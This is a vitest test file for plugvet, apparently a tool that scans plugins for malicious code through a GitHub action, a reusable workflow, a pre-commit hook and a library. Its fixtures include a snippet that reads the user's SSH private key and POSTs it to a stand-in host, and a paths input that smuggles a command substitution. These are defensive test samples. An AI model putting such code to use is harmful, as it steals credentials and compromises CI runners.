import { spawnSync } from 'node:child_process'
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { delimiter, dirname, join } from 'node:path'
import { expect, it } from 'vitest'
import { parse } from 'yaml'
import * as library from '../../src/index.ts'
import { launcher, scratch } from '../support/plugvet.ts'
import { readBlocks } from '../support/page.ts'
import { readText, root } from '../support/repository.ts'

type Inputs = Readonly<Record<string, { readonly default?: string; readonly required?: boolean }>>
interface Step { readonly name?: string; readonly uses?: string; readonly with?: Readonly<Record<string, unknown>>; readonly env?: Readonly<Record<string, string>>; readonly run?: string }
/** What a caller may say, and what is done for it. */
interface Way { readonly inputs: Inputs; readonly steps: readonly Step[] }
const { inputs, runs } = parse(readText('action.yml')) as { inputs: Inputs; runs: { steps: readonly Step[] } }
const { on, jobs } = parse(readText('.github/workflows/plugvet.yml')) as { on: { workflow_call: { inputs: Inputs } }; jobs: { scan: { steps: readonly Step[]; permissions: object } } }
const action: Way = { inputs, steps: runs.steps }
const workflow: Way = { inputs: on.workflow_call.inputs, steps: jobs.scan.steps }
const ways = [['the action', action], ['the reusable workflow', workflow]] as const

const honest = 'exports.minutes = (grams) => grams / 2\n'
const thief = "const k = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8')\nfetch('https://collect.example.invalid/in', { method: 'POST', body: k })\n"

const repository = (files: Readonly<Record<string, string>>): string => {
  const folder = scratch('build')
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true })
    writeFileSync(join(folder, path), text)
  }
  expect(spawnSync('git', ['init', '-q'], { cwd: folder }).status).toBe(0)
  return folder
}

/** The scan as a runner starts it, with the checkout of plugvet where either way expects it. */
const runScan = ({ inputs: known, steps }: Way, folder: string, given: Readonly<Record<string, string>> = {}) => {
  const { run = '', env = {} } = steps.find(({ name }) => name === 'Scan') ?? {}
  const said = Object.entries(env).map(([name, value]) => {
    const input = /^\$\{\{ inputs\.([\w-]+) \}\}$/.exec(value)?.[1] ?? ''
    return [name, given[input] ?? known[input]?.default ?? '']
  })
  const temp = scratch('runner')
  symlinkSync(root, join(temp, 'plugvet'))
  const path = [dirname(process.execPath), process.env['PATH']].join(delimiter)
  return spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', run], {
    cwd: folder, encoding: 'utf8', env: { PATH: path, HOME: scratch('home'), GITHUB_ACTION_PATH: root, RUNNER_TEMP: temp, ...Object.fromEntries(said) as Record<string, string> },
  })
}

it.skipIf(process.platform === 'win32').each(ways)('%s marks the lines, writes SARIF and exits as asked', (_, way) => {
  const folder = repository({ 'plugins/tea/index.js': thief, 'plugins/cup one/index.js': honest })
  const bad = runScan(way, folder)
  expect(bad).toMatchObject({ status: 1, stderr: '' })
  expect(bad.stdout).toMatch(/^::error file=plugins\/tea\/index\.js,line=2/m)
  expect(readFileSync(join(folder, 'plugvet.sarif'), 'utf8')).toContain('"uri": "plugins/tea/index.js"')
  expect(runScan(way, folder, { 'fail-on': 'never' }).status).toBe(0)
  expect(runScan(way, folder, { paths: 'plugins/cup one\n', sarif: '' })).toMatchObject({ status: 0, stdout: expect.stringMatching(/^OK /) as string })
})

it.skipIf(process.platform === 'win32').each(ways)('no input of %s becomes a command or an option', (_, way) => {
  const folder = repository({ 'a.js': honest })
  const { status, stderr } = runScan(way, folder, { paths: '--fail-on=never\n$(touch made)' })
  expect({ status, stderr, made: existsSync(join(folder, 'made')) }).toEqual({ status: 2, stderr: 'plugvet: there is no --fail-on=never\n', made: false })
  for (const { run = '' } of way.steps) expect(run).not.toContain('${{')
})

it.skipIf(process.platform === 'win32')('the reusable workflow takes plugvet out of the workspace before what is scanned comes in, and sends what the scan wrote', () => {
  const { steps } = workflow
  const at = (is: (step: Step) => boolean): number => steps.findIndex(is)
  const order = [at(step => step.with?.['repository'] === '${{ inputs.plugvet }}'), at(({ name }) => name === 'Install plugvet'), at(step => step.uses?.startsWith('actions/checkout@') === true && !step.with?.['repository']), at(({ name }) => name === 'Scan')]
  expect(order).toEqual([0, 2, 3, 4])
  const [folder, temp, bin] = [repository({ 'plugvet/package.json': '{}' }), scratch('runner'), scratch('bin')]
  writeFileSync(join(bin, 'npm'), '#!/bin/sh\necho "$*" > "$RUNNER_TEMP/asked"\n', { mode: 0o755 })
  expect(spawnSync('bash', ['-eo', 'pipefail', '-c', steps[2]?.run ?? ''], { cwd: folder, env: { PATH: `${bin}:${process.env['PATH']}`, RUNNER_TEMP: temp } }).status).toBe(0)
  expect([existsSync(join(folder, 'plugvet')), existsSync(join(temp, 'plugvet/package.json')), readFileSync(join(temp, 'asked'), 'utf8')])
    .toEqual([false, true, `ci --prefix ${temp}/plugvet --omit=dev --ignore-scripts --no-audit --no-fund\n`])
  expect(steps.at(-1)).toMatchObject({ with: { sarif_file: workflow.steps[4]?.env?.['PLUGVET_SARIF'] } })
  expect(jobs.scan.permissions).toEqual({ contents: 'read', 'security-events': 'write' })
})

it('the workflows of docs/ci.md say what the action and the reusable workflow know', () => {
  const [caller, own] = readBlocks(readText('docs/ci.md')).filter(({ language }) => language === 'yaml').map(({ text }) => parse(text) as { jobs: Record<string, { uses?: string; with?: object; steps?: readonly Step[] }> })
  const call = caller?.jobs['plugvet']
  expect(existsSync(join(root, /^OWNER\/plugvet\/(.+)@v0$/.exec(call?.uses ?? '')?.[1] ?? 'nowhere'))).toBe(true)
  const needed = Object.entries(workflow.inputs).filter(([, { required }]) => required).map(([name]) => name)
  expect(Object.keys(call?.with ?? {})).toEqual(expect.arrayContaining(needed))
  expect(Object.keys(workflow.inputs)).toEqual(expect.arrayContaining(Object.keys(call?.with ?? {})))
  const step = own?.jobs['scan']?.steps?.find(({ uses }) => uses?.startsWith('OWNER/plugvet@'))
  expect(Object.keys(action.inputs)).toEqual(expect.arrayContaining(Object.keys(step?.with ?? { none: '' })))
})

it('the hook of pre-commit refuses danger and lets the rest pass', () => {
  const [hook] = parse(readText('.pre-commit-hooks.yaml')) as [{ entry: string; args: string[] }]
  const [program, ...words] = hook.entry.split(' ')
  expect(program).toBe('plugvet')
  const commit = (text: string): number | null => spawnSync(process.execPath, [launcher, ...words, ...hook.args], { cwd: repository({ 'index.js': text }), env: { HOME: scratch('home') } }).status
  expect(commit(thief)).toBe(1)
  expect(commit(honest)).toBe(0)
})

it('the example of docs/library.md runs, and every function is told of', () => {
  const page = readText('docs/library.md')
  const [example = ''] = readBlocks(page).filter(({ language }) => language === 'js').map(({ text }) => text)
  const folder = repository({ 'weather/index.js': thief, 'use.mjs': example.replace("'plugvet'", JSON.stringify(join(root, 'src/index.ts'))) })
  const { stdout, stderr } = spawnSync(process.execPath, ['use.mjs'], { cwd: folder, encoding: 'utf8' })
  expect({ stderr, last: stdout.trimEnd().split('\n').at(-1) }).toEqual({ stderr: '', last: 'block' })
  for (const name of Object.keys(library)) expect(page).toMatch(new RegExp(`^\\| \`${name}\\b`, 'm'))
})
